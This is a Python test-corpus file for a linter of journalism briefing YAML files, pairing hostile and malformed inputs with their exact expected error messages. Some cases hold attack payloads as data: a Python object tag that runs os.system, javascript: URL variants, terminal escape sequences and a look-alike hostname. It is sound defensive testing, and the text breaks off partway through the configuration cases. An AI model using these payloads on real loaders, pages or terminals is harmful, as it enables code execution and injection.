"""The adversarial corpus: each hostile input, where it goes, and the exact output it must get.

`CASES` are files `briefings lint` must report (golden lines, exit code 1); `COMMAND_CASES`
are hostile settings, environments and paths for any command (golden lines, documented exit
code). `tests/test_corpus.py` checks every case. The docs page "Reliability" is generated from
this file: `python -m tests.corpus` rewrites docs/reliability.md, and a test fails if the
committed page is stale.
"""

from __future__ import annotations

import hashlib
import os
import shutil
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

from build_tools.schema import SOURCE
from tests.conftest import BRIEFING_YAML, SNAPSHOT_SHA, SOURCE_YAML

B = "briefings/bridge.yaml"
S = "sources/city-herald-2024.yaml"
FACT_TEXT = "text: The minister said the bridge would reopen in May."
SOURCE_KEYS = ", ".join(SOURCE.by_name)  # the keys a source file may hold, as the message lists them
QUOTE = '"the bridge would reopen in May"'


@dataclass(frozen=True)
class Case:
    name: str
    category: str
    path: str
    content: bytes
    expected: tuple[str, ...]  # exact problem lines (the summary line is not compared)


def briefing(old: str, new: str) -> bytes:
    assert old in BRIEFING_YAML, old
    return BRIEFING_YAML.replace(old, new, 1).encode()


def source(old: str, new: str) -> bytes:
    assert old in SOURCE_YAML, old
    return SOURCE_YAML.replace(old, new, 1).encode()


def fact_text(value: str) -> bytes:
    return briefing(FACT_TEXT, f"text: {value}")


def url(value: str) -> bytes:
    return source("url: https://example.org/bridge", f"url: {value}")


CASES: tuple[Case, ...] = (
    # YAML
    Case("python-tag", "YAML", S,
         source("title: Bridge to reopen in May", "title: !!python/object/apply:os.system [ls]"),
         ("sources/city-herald-2024.yaml:1:8: error YML004 tag '!!python/object/apply:os.system' is not allowed; "
          "remove it and write plain text (disallowed-tag)",)),
    Case("binary-tag", "YAML", S, source("outlet: City Herald", "outlet: !!binary aGk="),
         ("sources/city-herald-2024.yaml:2:9: error YML004 tag '!!binary' is not allowed; remove it and write "
          "plain text (disallowed-tag)",)),
    Case("custom-tag", "YAML", S, source("outlet: City Herald", "outlet: !custom x"),
         ("sources/city-herald-2024.yaml:2:9: error YML004 tag '!custom' is not allowed; remove it and write "
          "plain text (disallowed-tag)",)),
    Case("anchor", "YAML", S, source("outlet: City Herald", "outlet: &o City Herald"),
         ("sources/city-herald-2024.yaml:2:9: error YML005 anchor '&o' is not allowed; remove it and write "
          "values out in full (anchor-or-alias)",)),
    Case("alias", "YAML", S, source("outlet: City Herald", "outlet: *o"),
         ("sources/city-herald-2024.yaml:2:9: error YML005 alias '*o' is not allowed; write the value out in "
          "full (anchor-or-alias)",)),
    Case("self-referencing-alias", "YAML", S, SOURCE_YAML.encode() + b"derived_from: &a [*a]\n",
         ("sources/city-herald-2024.yaml:8:15: error YML005 anchor '&a' is not allowed; remove it and write "
          "values out in full (anchor-or-alias)",)),
    Case("duplicate-key", "YAML", S, SOURCE_YAML.encode() + b"outlet: Other\n",
         ("sources/city-herald-2024.yaml:8:1: error YML003 duplicate key 'outlet' (first on line 2); delete "
          "one of them (duplicate-key)",)),
    Case("duplicate-quoted-key", "YAML", S, SOURCE_YAML.encode() + b"\"outlet\": Other\n",
         ("sources/city-herald-2024.yaml:8:1: error YML003 duplicate key 'outlet' (first on line 2); delete "
          "one of them (duplicate-key)",)),
    Case("deep-nesting", "YAML", S, SOURCE_YAML.encode() + b"notes: " + b"[" * 40 + b"]" * 40 + b"\n",
         ("sources/city-herald-2024.yaml:8:39: error YML008 nesting deeper than 32 levels; no briefing or "
          "source file needs this (nesting-too-deep)",)),
    Case("empty-file", "YAML", S, b"",
         ("sources/city-herald-2024.yaml:1:1: error YML002 file holds no YAML document; write a mapping such "
          "as 'title: …' or delete the file (not-one-document)",)),
    Case("comment-only", "YAML", S, b"# nothing here\n",
         ("sources/city-herald-2024.yaml:1:1: error YML002 file holds no YAML document; write a mapping such "
          "as 'title: …' or delete the file (not-one-document)",)),
    Case("several-documents", "YAML", S, SOURCE_YAML.encode() + b"---\ntitle: second\n",
         ("sources/city-herald-2024.yaml:8:1: error YML002 file holds more than one YAML document; remove the "
          "'---' line and keep one document per file (not-one-document)",)),
    Case("invalid-utf8", "YAML", S, source("City Herald", "City Herald").replace(b"City Herald", b"City H\xe9rald", 1),
         ("sources/city-herald-2024.yaml:2:15: error YML006 invalid UTF-8 byte 0xe9; save the file as UTF-8 "
          "(invalid-encoding)",)),
    Case("nul-byte", "YAML", S, source("City Herald", "City\0Herald"),
         ("sources/city-herald-2024.yaml:2:13: error YML006 NUL character in file; remove it (is this a "
          "binary file?) (invalid-encoding)",)),
    Case("byte-order-mark", "YAML", S, b"\xef\xbb\xbf" + SOURCE_YAML.encode(),
         ("sources/city-herald-2024.yaml:1:1: error YML006 file starts with a byte-order mark; save it as "
          "UTF-8 without BOM (invalid-encoding)",)),
    Case("oversized-file", "YAML", S, SOURCE_YAML.encode() + b"notes: " + b"x" * (8 * 1024 * 1024) + b"\n",
         ("sources/city-herald-2024.yaml:1:1: error YML007 file is 8,388,825 bytes, over the limit of "
          "8,388,608; split it into several files (file-too-large)",)),
    Case("malformed-yaml", "YAML", B, briefing("title: The bridge", "title: [The bridge"),
         ("briefings/bridge.yaml:1:8: error YML001 syntax error: the '[' here is not closed before line 2; end "
          "the list with ']' on this line (items are separated by commas: e.g. derived_from: [a, b]) "
          "(invalid-yaml)", "    1 | title: [The bridge", "      |        ^")),
    # Types
    Case("yaml11-boolean", "Types", S, source("outlet: City Herald", "outlet: NO"),
         ("sources/city-herald-2024.yaml:2:9: error SCH003 'outlet: NO' would be read as a boolean by other "
          'YAML tools; quote it: outlet: "NO" (wrong-type)',)),
    Case("yaml11-yes-off", "Types", B, fact_text("off"),
         ("briefings/bridge.yaml:8:15: error SCH003 'text: off' would be read as a boolean by other YAML "
          'tools; quote it: text: "off" (wrong-type)',)),
    Case("octal-number", "Types", S, source("outlet: City Herald", "outlet: 010"),
         ("sources/city-herald-2024.yaml:2:9: error SCH003 'outlet: 010' would be read as a number by other "
          'YAML tools; quote it: outlet: "010" (wrong-type)',)),
    Case("base-60-number", "Types", S, source("outlet: City Herald", "outlet: 1:20"),
         ("sources/city-herald-2024.yaml:2:9: error SCH003 'outlet: 1:20' would be read as a number by other "
          'YAML tools; quote it: outlet: "1:20" (wrong-type)',)),
    Case("float", "Types", S, source("outlet: City Herald", "outlet: 3.5"),
         ("sources/city-herald-2024.yaml:2:9: error SCH003 'outlet: 3.5' would be read as a number by other "
          'YAML tools; quote it: outlet: "3.5" (wrong-type)',)),
    Case("null-in-required-field", "Types", S, source("outlet: City Herald", "outlet: null"),
         ("sources/city-herald-2024.yaml:2:9: error SCH002 'outlet' is empty; write a value (missing-field)",)),
    Case("list-for-mapping", "Types", S, SOURCE_YAML.split("snapshot:")[0].encode() + b"snapshot: [a, b]\n",
         ("sources/city-herald-2024.yaml:5:11: error SCH003 expected a mapping (snapshot: 'key: value' lines), "
          "found a list (wrong-type)",)),
    Case("mapping-for-list", "Types", S, SOURCE_YAML.encode() + b"derived_from: {a: b}\n",
         ("sources/city-herald-2024.yaml:8:15: error SCH003 'derived_from' must be a list ('- item' lines), "
          "found a mapping (wrong-type)",)),
    Case("non-string-key", "Types", S, SOURCE_YAML.encode() + b"1: x\n",
         ("sources/city-herald-2024.yaml:8:1: error SCH003 keys must be field names, found '1' (wrong-type)",)),
    Case("unknown-key", "Types", B, briefing("summary:", "sumary:"),
         ("briefings/bridge.yaml:2:1: error SCH001 unknown key 'sumary' in briefing; did you mean 'summary'? "
          "(unknown-key)",)),
    # Text: every text field refuses controls, format characters (Cf: zero-width, bidirectional, tag
    # characters, interlinear annotation, U+061C), noncharacters and unassigned code points (Cn), private
    # use (Co) and line/paragraph separators, naming the character.
    Case("control-character", "Text", B, fact_text('"The minister\\x07 said."'),
         ("briefings/bridge.yaml:8:28: error SCH007 'text' contains U+0007 (BELL, control character) at "
          "character 13; delete it (unsafe-text)",)),
    Case("ansi-escape", "Text", B, fact_text('"The minister\\e[31m said."'),
         ("briefings/bridge.yaml:8:28: error SCH007 'text' contains U+001B (ESCAPE, control character) at "
          "character 13; delete it (unsafe-text)",)),
    Case("bidi-override", "Text", B, fact_text('"The minister\\u202e said."'),
         ("briefings/bridge.yaml:8:28: error SCH007 'text' contains U+202E (RIGHT-TO-LEFT OVERRIDE, invisible "
          "formatting character) at character 13; delete it (unsafe-text)",)),
    Case("zero-width-space", "Text", B, fact_text('"The minister\\u200b said."'),
         ("briefings/bridge.yaml:8:28: error SCH007 'text' contains U+200B (ZERO WIDTH SPACE, invisible "
          "formatting character) at character 13; delete it (unsafe-text)",)),
    Case("noncharacter-in-title", "Text", B, briefing("title: The bridge", 'title: "The bridge\\uffff"'),
         ("briefings/bridge.yaml:1:19: error SCH007 'title' contains U+FFFF (noncharacter) at character 11; "
          "delete it (unsafe-text)",)),
    Case("noncharacter-in-summary", "Text", B, briefing("summary: What the city said about the bridge.",
                                                        'summary: "What the city\\ufdd0 said."'),
         ("briefings/bridge.yaml:2:24: error SCH007 'summary' contains U+FDD0 (noncharacter) at character 14; "
          "delete it (unsafe-text)",)),
    Case("reversed-byte-order-mark", "Text", B, briefing("- title: Reopening", '- title: "\\ufffeReopening"'),
         ("briefings/bridge.yaml:5:13: error SCH007 'title' contains U+FFFE (noncharacter) at character 1; "
          "delete it (unsafe-text)",)),
    Case("tag-characters", "Text", S, source("title: Bridge to reopen in May",
                                             'title: "Bridge\\U000E0041\\U000E007F"'),
         ("sources/city-herald-2024.yaml:1:15: error SCH007 'title' contains U+E0041 (TAG LATIN CAPITAL LETTER "
          "A, invisible formatting character) at character 7; delete it (unsafe-text)",)),
    Case("interlinear-annotation", "Text", S, SOURCE_YAML.encode() + b'notes: "Seen \\ufff9in print\\ufffa."\n',
         ("sources/city-herald-2024.yaml:8:14: error SCH007 'notes' contains U+FFF9 (INTERLINEAR ANNOTATION "
          "ANCHOR, invisible formatting character) at character 6; delete it (unsafe-text)",)),
    Case("arabic-letter-mark", "Text", S, source("outlet: City Herald", 'outlet: "City\\u061c Herald"'),
         ("sources/city-herald-2024.yaml:2:14: error SCH007 'outlet' contains U+061C (ARABIC LETTER MARK, "
          "invisible formatting character) at character 5; delete it (unsafe-text)",)),
    Case("private-use", "Text", S, SOURCE_YAML.encode() + b'author: "Ana\\ue000 Writer"\n',
         ("sources/city-herald-2024.yaml:8:13: error SCH007 'author' contains U+E000 (private use) at character "
          "4; delete it (unsafe-text)",)),
    Case("unassigned-code-point", "Text", B, briefing('quote: "the bridge would reopen in May"',
                                                      'quote: "the bridge\\u0378 would reopen in May"'),
         ("briefings/bridge.yaml:12:31: error SCH007 'quote' contains U+0378 (unassigned) at character 11; "
          "delete it (unsafe-text)",)),
    Case("soft-hyphen-in-a-reason", "Text", S, SOURCE_YAML.encode() + b'lint: {ignore: [SRC002], reason: '
         b'"Not re\\u00adcorded."}\n',
         ("sources/city-herald-2024.yaml:8:41: error SCH007 'reason' contains U+00AD (SOFT HYPHEN, invisible "
          "formatting character) at character 7; delete it (unsafe-text)",)),
    Case("line-separator-in-a-file-name", "Text", S, source("file: bridge.txt", 'file: "bridge\\u2028.txt"'),
         ("sources/city-herald-2024.yaml:7:16: error SCH007 'file' contains U+2028 (LINE SEPARATOR, line "
          "separator) at character 7; delete it (unsafe-text)",)),
    Case("newline-in-single-line-field", "Text", B, fact_text('"The minister\\nsaid."'),
         ("briefings/bridge.yaml:8:15: error SCH007 'text' must be one line; join the lines (a folded block "
          "'>-' is fine) (unsafe-text)",)),
    # Messages: whatever a message quotes (keys, ids, file names, snapshot text) reaches the terminal
    # with its control characters escaped, in every output format.
    Case("escape-sequence-in-a-key", "Messages", S, SOURCE_YAML.encode() + b'"\\e[2J\\e[31mtitle": x\n',
         ("sources/city-herald-2024.yaml:8:1: error SCH001 unknown key '\\x1b[2J\\x1b[31mtitle' in source; "
          f"allowed keys: {SOURCE_KEYS} (unknown-key)",)),
    Case("bidi-override-in-a-key", "Messages", S, SOURCE_YAML.encode() + b'"notes\\u202e": x\n',
         ("sources/city-herald-2024.yaml:8:1: error SCH001 unknown key 'notes\\u202e' in source; did you mean "
          "'notes'? (unknown-key)",)),
    Case("newline-in-a-key", "Messages", S, SOURCE_YAML.encode() + b'"notes\\n\\rextra": x\n',
         ("sources/city-herald-2024.yaml:8:1: error SCH001 unknown key 'notes\\n\\rextra' in source; "
          f"allowed keys: {SOURCE_KEYS} (unknown-key)",)),
    Case("escape-sequence-in-an-id", "Messages", B, briefing("id: bridge-reopens", 'id: "\\e]0;pwned\\a"'),
         ("briefings/bridge.yaml:7:14: error SCH007 'id' contains U+001B (ESCAPE, control character) at "
          "character 1; delete it (unsafe-text)",)),
    Case("escape-sequence-in-a-file-name", "Messages", "briefings/\x1b[2J.yaml",
         briefing("id: bridge-reopens", "id: other-fact"),
         ("briefings/\\x1b[2J.yaml:1:1: error SCH004 file name: id '\\x1b[2J' must be lower-case letters, "
          "digits and hyphens, starting with a letter or digit, at most 64 characters; e.g. '2j' (invalid-id)",)),
    # Dates and sizes the build could not handle are refused where they are written.
    Case("year-zero", "Dates and sizes", B, briefing("date: 2024-03-04", 'date: "0000"'),
         ("briefings/bridge.yaml:9:15: error SCH005 '0000' is outside the years this project accepts (1800 to "
          "2100); check the year (invalid-date)",)),
    Case("last-day-of-9999", "Dates and sizes", B, briefing("updated: 2024-03", "updated: 9999-12-31"),
         ("briefings/bridge.yaml:3:10: error SCH005 '9999-12-31' is outside the years this project accepts "
          "(1800 to 2100); check the year (invalid-date)",)),
    Case("year-before-the-bound", "Dates and sizes", S, source("published: 2024-03-04", "published: 1799-12"),
         ("sources/city-herald-2024.yaml:3:12: error SCH005 '1799-12' is outside the years this project accepts "
          "(1800 to 2100); check the year (invalid-date)",)),
    Case("year-typo-in-as-of", "Dates and sizes", B, briefing("date: 2024-03-04", "date: 2024-03-04\n"
                                                              "        as_of: 2201-03-04"),
         ("briefings/bridge.yaml:10:16: error SCH005 '2201-03-04' is outside the years this project accepts "
          "(1800 to 2100); check the year (invalid-date)",)),
    Case("retrieved-in-year-one", "Dates and sizes", S, SOURCE_YAML.encode() + b"  retrieved: 0001-01-01\n",
         ("sources/city-herald-2024.yaml:8:14: error SCH005 '0001-01-01' is outside the years this project "
          "accepts (1800 to 2100); check the year (invalid-date)",)),
    Case("two-megabyte-one-line-text", "Dates and sizes", B, fact_text("x" * 2_000_000),
         ("briefings/bridge.yaml:8:15: error SCH009 'text' is 2,000,000 characters long, over the limit of "
          "1,000; shorten it (value-too-long)",)),
    Case("long-summary", "Dates and sizes", B, briefing("summary: What the city said about the bridge.",
                                                        "summary: >-\n  " + "Words. " * 1500),
         ("briefings/bridge.yaml:2:10: error SCH009 'summary' is 10,499 characters long, over the limit of "
          "10,000; shorten it (value-too-long)",)),
    Case("long-url", "Dates and sizes", S, url("https://example.org/" + "a" * 2000),
         ("sources/city-herald-2024.yaml:4:6: error SCH009 'url' is 2,020 characters long, over the limit of "
          "2,000; shorten it (value-too-long)",)),
    Case("twenty-one-citations", "Dates and sizes", B, briefing(
        '            quote: "the bridge would reopen in May"\n',
        '            quote: "the bridge would reopen in May"\n' + '          - source: city-herald-2024\n'
        '            quote: "the bridge would reopen in May"\n' * 20),
         ("briefings/bridge.yaml:11:11: error SCH009 'citations' has 21 items, over the limit of 20; split it "
          "(value-too-long)",)),
    # URLs
    Case("javascript-url", "URLs", S, url("javascript:alert(1)"),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL 'javascript:alert(1)' is not an absolute "
          "http(s) URL; write it as 'https://host/path' (leave 'url' out when the address is unknown) "
          "(invalid-url)",)),
    Case("mixed-case-scheme", "URLs", S, url("JaVaScRiPt:alert(1)"),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL 'JaVaScRiPt:alert(1)' is not an absolute "
          "http(s) URL; write it as 'https://host/path' (leave 'url' out when the address is unknown) "
          "(invalid-url)",)),
    Case("leading-space", "URLs", S, url('" https://example.org/"'),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL ' https://example.org/' contains spaces or "
          "control characters; remove them (invalid-url)",)),
    Case("embedded-tab", "URLs", S, url('"https://exa\\tmple.org/"'),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL 'https://exa\\tmple.org/' contains spaces "
          "or control characters; remove them (invalid-url)",)),
    Case("entity-encoded-colon", "URLs", S, url("javascript&colon;alert(1)"),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL 'javascript&colon;alert(1)' is not an absolute "
          "http(s) URL; write it as 'https://host/path' (leave 'url' out when the address is unknown) "
          "(invalid-url)",)),
    Case("relative-url", "URLs", S, url("/news/bridge"),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL '/news/bridge' is not an absolute http(s) URL; "
          "write it as 'https://host/path' (leave 'url' out when the address is unknown) (invalid-url)",)),
    Case("protocol-relative-url", "URLs", S, url("//example.org/bridge"),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL '//example.org/bridge' is not an absolute "
          "http(s) URL; write it as 'https://host/path' (leave 'url' out when the address is unknown) "
          "(invalid-url)",)),
    Case("credentials-in-url", "URLs", S, url("https://user:pass@example.org/"),
         ("sources/city-herald-2024.yaml:4:6: error SCH006 URL 'https://user:pass@example.org/' contains a "
          "user name or password; remove the 'user@' part (invalid-url)",)),
    Case("mixed-script-host", "URLs", S, url("https://www.f\u043e\u0445news.com/media"),
         ("sources/city-herald-2024.yaml:4:6: warning SRC006 URL host 'www.f\u043e\u0445news.com' mixes scripts "
          "(CYRILLIC, LATIN); its punycode form is 'www.xn--fnews-jye3c.com'; check it is the site you mean "
          "(mixed-script-hostname)",)),
    # Dates
    Case("date-in-words", "Dates", B, briefing("date: 2024-03-04", "date: over the summer of 2024"), (
          "briefings/bridge.yaml:9:15: error SCH005 'over the summer of 2024' is not a date; write 2024-22 "
          "(summer 2024) (invalid-date)",)),
    Case("season-with-a-day", "Dates", B, briefing("date: 2024-03-04", "date: 2024-22-01"), (
          "briefings/bridge.yaml:9:15: error SCH005 '2024-22-01': 22 is a season (summer), which has no days; "
          "write 2024-22 (invalid-date)",)),
    Case("qualified-season", "Dates", B, briefing("date: 2024-03-04", "date: 2024-22~"), (
          "briefings/bridge.yaml:9:15: error SCH005 '2024-22~': a season cannot be qualified with '~'; write "
          "2024-22, or an interval of months such as 2021-05/2021-09 (invalid-date)",)),
    Case("interval-backwards", "Dates", B, briefing("date: 2024-03-04", "date: 2024-06/2024-03"), (
          "briefings/bridge.yaml:9:15: error SCH005 '2024-06/2024-03' ends before it starts; write "
          "2024-03/2024-06 (invalid-date)",)),
    Case("impossible-day-in-interval", "Dates", B, briefing("date: 2024-03-04", "date: 2024-02-30/2024-03"), (
          "briefings/bridge.yaml:9:15: error SCH005 '2024-02-30/2024-03' does not exist: February 2024 has 29 "
          "days (invalid-date)",)),
    Case("both-ends-open", "Dates", B, briefing("date: 2024-03-04", "date: ../.."), (
          "briefings/bridge.yaml:9:15: error SCH005 both ends of '../..' are open or unknown; give at least one"
          " end, or write `unknown` where the field allows it (invalid-date)",)),
    Case("empty-interval-end", "Dates", S, source("published: 2024-03-04", "published: 2024-03-04/"), (
          "sources/city-herald-2024.yaml:3:12: error SCH005 '2024-03-04/' has an empty end, which EDTF reads as"
          " unknown; write '2024-03-04/..' for an open end; or write 'unknown' (invalid-date)",)),
    Case("unspecified-digits", "Dates", B, briefing("date: 2024-03-04", "date: 2024-03-XX"), (
          "briefings/bridge.yaml:9:15: error SCH005 '2024-03-XX' is EDTF with unspecified digits (X), which is "
          "not accepted here; write only the part that is known: 2024-03 (March 2024) (invalid-date)",)),
    Case("edtf-level-2", "Dates", B, briefing("date: 2024-03-04", "date: '[2024-03-04, 2024-03-05]'"), (
          "briefings/bridge.yaml:9:15: error SCH005 '[2024-03-04, 2024-03-05]' is EDTF with level 2 features, "
          "which is not accepted here; write YYYY, YYYY-MM or YYYY-MM-DD; a season (2021-22 is summer 2021); "
          "add ~ (about), ? (possibly) or % (both) to a date; or an interval (2021-03/2021-06, ../2021-06, "
          "2021-03/..) (invalid-date)",)),
    Case("ambiguous-numbers", "Dates", B, briefing("date: 2024-03-04", "date: 04/03/24"), (
          "briefings/bridge.yaml:9:15: error SCH005 '04/03/24' is not a date; write YYYY, YYYY-MM or "
          "YYYY-MM-DD; a season (2021-22 is summer 2021); add ~ (about), ? (possibly) or % (both) to a date; or"
          " an interval (2021-03/2021-06, ../2021-06, 2021-03/..) (invalid-date)",)),
    Case("long-date", "Dates", B, briefing("date: 2024-03-04", "date: " + "2024-03-04~" * 200), (
          "briefings/bridge.yaml:9:15: error SCH005 "
          "'2024-03-04~2024-03-04~2024-03-04~2024-03-04~2024-03-04~2024…' is not a date; write YYYY, YYYY-MM or"
          " YYYY-MM-DD; a season (2021-22 is summer 2021); add ~ (about), ? (possibly) or % (both) to a date; "
          "or an interval (2021-03/2021-06, ../2021-06, 2021-03/..) (invalid-date)",)),
    Case("season-for-a-revision-date", "Dates", B, briefing("updated: 2024-03", "updated: 2024-21"), (
          "briefings/bridge.yaml:3:10: error SCH005 'updated' takes an exact date (YYYY, YYYY-MM or "
          "YYYY-MM-DD), not '2024-21'; seasons, qualifiers and intervals are for a fact's date and as_of and a "
          "source's published (invalid-date)",)),
    # Evidence: quotes that are not these words, here
    Case("quote-cuts-a-word", "Evidence", B, briefing(QUOTE, '"he bridge would reopen in May"'),
         ("briefings/bridge.yaml:12:20: error CIT003 quote not found in snapshot of 'city-herald-2024'; \"he bridge "
          "would reopen in May\" starts inside the word \"the\" (the snapshot has \"the bridge would reopen in "
          "May\"); quote whole words and figures (quote-not-in-snapshot)",)),
    Case("quote-cuts-a-figure", "Evidence", B, briefing(QUOTE, '"204 vehicles on the first day"'),
         ("briefings/bridge.yaml:12:20: error CIT003 quote not found in snapshot of 'city-herald-2024'; \"204 "
          "vehicles on the first day\" starts inside the figure \"1,204\" (the snapshot has \"1,204 vehicles on the "
          "first day\"); quote whole words and figures (quote-not-in-snapshot)",)),
    Case("compatibility-look-alike", "Evidence", B, briefing(QUOTE, '"Officials counted １,２０４ vehicles"'),
         ("briefings/bridge.yaml:12:20: error CIT003 quote not found in snapshot of 'city-herald-2024'; closest "
          "passage: \"Officials counted 1,204 vehicles\" (quote has \"１\" where the snapshot has \"1\"; quote has "
          "\"２０４\" where the snapshot has \"204\") (quote-not-in-snapshot)",)),
    Case("ellipsis-only", "Evidence", B, briefing(QUOTE, '"…"'),
         ("briefings/bridge.yaml:12:20: error CIT008 quote \"…\" holds no word; quote the words that carry the fact "
          "(quote-without-words)",)),
    Case("punctuation-only", "Evidence", B, briefing(QUOTE, '"—"'),
         ("briefings/bridge.yaml:12:20: error CIT008 quote \"—\" holds no word; quote the words that carry the fact "
          "(quote-without-words)",)),
    Case("stitched-paragraphs", "Evidence", B, briefing(QUOTE, '"The minister said ... the council agreed."'),
         ("briefings/bridge.yaml:12:20: error CIT010 the omission in the quote skips 29 words of the snapshot and "
          "crosses a paragraph break; an omission may skip at most 60 words within one paragraph: quote the "
          "passages in separate citations (ellipsis-gap-too-long)",)),
    Case("waived-evidence-error", "Evidence", B,
         briefing(QUOTE, '"the bridge would reopen in June"\n        lint:\n          ignore: [CIT003]\n'
                         '          reason: Trust me.'),
         ("briefings/bridge.yaml:12:20: error CIT003 quote not found in snapshot of 'city-herald-2024'; closest "
          "passage: \"the bridge would reopen in May. Officials\" (quote has \"June\" where the snapshot has \"May. "
          "Officials\") (quote-not-in-snapshot)",
          "briefings/bridge.yaml:14:20: error CIT011 'lint: ignore' cannot accept CIT003 (quote-not-in-snapshot): "
          "it means the quote is not proven by its snapshot, so it stays an error; fix the citation and remove "
          "CIT003 from the list (evidence-error-ignored)",)),
    Case("waiver-naming-no-rule", "Evidence", B,
         briefing(QUOTE, '"the city"\n        lint:\n          ignore: [CIT090]\n          reason: A typo of CIT009.'),
         ("briefings/bridge.yaml:12:20: warning CIT009 quote has 2 words, under the minimum of 4; a short quote can "
          "match by accident and says little: quote the words around it (quote-too-short)",
          "briefings/bridge.yaml:14:20: error CIT011 'lint: ignore' names CIT090, which is no rule's code (`briefings "
          "rules` lists them); correct it or remove it from the list (evidence-error-ignored)",)),
    Case("waiver-naming-a-reading-error", "Evidence", B,
         briefing("date: 2024-03-04", "date: 2024-02-30\n        lint:\n          ignore: [SCH005]\n"
                  "          reason: Leap years."),
         ("briefings/bridge.yaml:9:15: error SCH005 '2024-02-30' does not exist: February 2024 has 29 days "
          "(invalid-date)",
          "briefings/bridge.yaml:11:20: error CIT011 'lint: ignore' cannot accept SCH005 (invalid-date): it is found "
          "while reading the file, so only fixing the file removes it; fix it and remove SCH005 from the list "
          "(evidence-error-ignored)",)),
    Case("waiver-on-the-wrong-object", "Evidence", S,
         SOURCE_YAML.encode() + b"lint:\n  ignore: [CIT009]\n  reason: Its quotes are short.\n",
         ("sources/city-herald-2024.yaml:9:12: error CIT011 'lint: ignore' on a source never accepts CIT009 "
          "(quote-too-short), which is reported on a fact: accept it in that fact's 'lint: ignore'; remove CIT009 "
          "from this list (evidence-error-ignored)",)),
    Case("waived-wrong-replaces", "Evidence", B,
         briefing("date: 2024-03-04", "date: 2024-03-04\n        replaces: bridge-reopens\n        lint:\n"
                  "          ignore: [FCT007]\n          reason: Renamed."),
         ("briefings/bridge.yaml:10:19: error FCT007 fact 'bridge-reopens' cannot replace itself; name the id it had "
          "before, or remove 'replaces' (bad-replaces)",
          "briefings/bridge.yaml:12:20: error CIT011 'lint: ignore' cannot accept FCT007 (bad-replaces): a wrong "
          "'replaces:' gives a fact an id it never had: two facts could share one old anchor, and the exports would "
          "record a rename that never happened, so it stays an error; correct 'replaces:' or remove it and remove "
          "FCT007 from the list (evidence-error-ignored)",)),
    Case("one-word-quote", "Evidence", B, briefing(QUOTE, '"May"'),
         ("briefings/bridge.yaml:12:20: warning CIT009 quote has 1 word, under the minimum of 4; a short quote can "
          "match by accident and says little: quote the words around it (quote-too-short)",)),
    # Ids
    Case("id-with-capitals", "Ids", B, briefing("id: bridge-reopens", "id: Bridge-Reopens"),
         ("briefings/bridge.yaml:7:13: error SCH004 id 'Bridge-Reopens' must be lower-case letters, digits and "
          "hyphens, starting with a letter or digit, at most 64 characters; e.g. 'bridge-reopens' (invalid-id)",)),
    Case("id-with-non-ascii", "Ids", B, briefing("id: bridge-reopens", "id: brïdge"),
         ("briefings/bridge.yaml:7:13: error SCH004 id 'brïdge' must be lower-case letters, digits and hyphens, "
          "starting with a letter or digit, at most 64 characters; e.g. 'br-dge' (invalid-id)",)),
    Case("reserved-device-name", "Ids", B, briefing("id: bridge-reopens", "id: nul"),
         ("briefings/bridge.yaml:7:13: error SCH004 id 'nul' is a reserved device name on Windows; choose "
          "another (invalid-id)",)),
    Case("file-name-not-an-id", "Ids", "briefings/Bridge_Two.yaml",
         briefing("id: bridge-reopens", "id: bridge-two"),
         ("briefings/Bridge_Two.yaml:1:1: error SCH004 file name: id 'Bridge_Two' must be lower-case letters, "
          "digits and hyphens, starting with a letter or digit, at most 64 characters; e.g. 'bridge-two' "
          "(invalid-id)",)),
)


@dataclass(frozen=True)
class CommandCase:
    """A command run in the clean test project (as its working directory, with its snapshots in
    $BRIEFINGS_SNAPSHOTS) after writing `files` and running `setup(project root, scratch dir)`.
    `expected` are the exact lines on stderr, then stdout; `{root}` and `{scratch}` stand for the
    two directories."""

    name: str
    category: str
    argv: tuple[str, ...]
    expected: tuple[str, ...]
    code: int
    files: Mapping[str, bytes] = field(default_factory=dict)
    setup: Callable[[Path, Path], None] | None = None


def toml(text: str) -> dict[str, bytes]:
    return {"briefings.toml": text.encode()}


COMMAND_CASES: tuple[CommandCase, ...] = (
    # Configuration: every setting declared once (rules declare their options); anything unknown or
    # mistyped is exit 2 with the line and a suggestion.
    CommandCase("option-of-wrong-type", "Configuration", ("lint",),
                ("briefings.toml:2: [lint.quote-too-long] 'max_words' must be a whole number, found \"forty\"; "
                 "e.g. max_words = 40",), 2, toml('[lint.quote-too-long]\nmax_words = "forty"\n')),
    CommandCase("option-boolean-for-number", "Configuration", ("lint",),
                ("briefings.toml:3: [lint.quote-too-long] 'max_words' must be a whole number, found true; "
                 "e.g. max_words = 40",), 2, toml('# limits\n[lint.quote-too-long]\nmax_words = true\n')),
    CommandCase("option-out-of-range", "Configuration", ("lint",),
                ("briefings.toml:2: [lint.quote-too-long] 'max_words' must be at least 1, found 0",), 2,
                toml("[lint.quote-too-long]\nmax_words = 0\n")),
    CommandCase("misspelled-option", "Configuration", ("lint",),
                ("briefings.toml:2: [lint.quote-too-long] unknown option 'max_word'; did you mean 'max_words'?",),
                2, toml("[lint.quote-too-long]\nmax_word = 30\n")),
    CommandCase("unknown-rule-table", "Configuration", ("lint",),
                ("briefings.toml:3: unknown rule table [lint.quote-to-long]; did you mean [lint.quote-too-long]?",),
                2, toml("[lint]\n\n[lint.quote-to-long]\nmax_words = 30\n")),
    CommandCase("rule-table-by-code", "Configuration", ("lint",),
                ("briefings.toml:1: unknown rule table [lint.CIT005]; name the rule: [lint.quote-too-long]",), 2,
                toml("[lint.CIT005]\nmax_words = 30\n")),
    CommandCase("options-for-a-rule-without-options", "Configuration", ("lint",),
                ("briefings.toml:1: [lint.unused-source] rule SRC001 has no options; remove the table",), 2,
                toml("[lint.unused-source]\nenabled = false\n")),
    CommandCase("rule-options-not-a-table", "Configuration", ("lint",),
                ("briefings.toml:2: [lint] 'quote-too-long' must be a table of options: [lint.quote-too-long]",), 2,
                toml("[lint]\nquote-too-long = 30\n")),
    CommandCase("unknown-code-in-disable", "Configuration", ("lint",),
                ("briefings.toml:2: [lint] disable: unknown rule 'SRC099'; `briefings rules` lists them",
                 "briefings.toml:2: [lint] disable: unknown rule 'unused-sourc'; did you mean 'unused-source'?"),
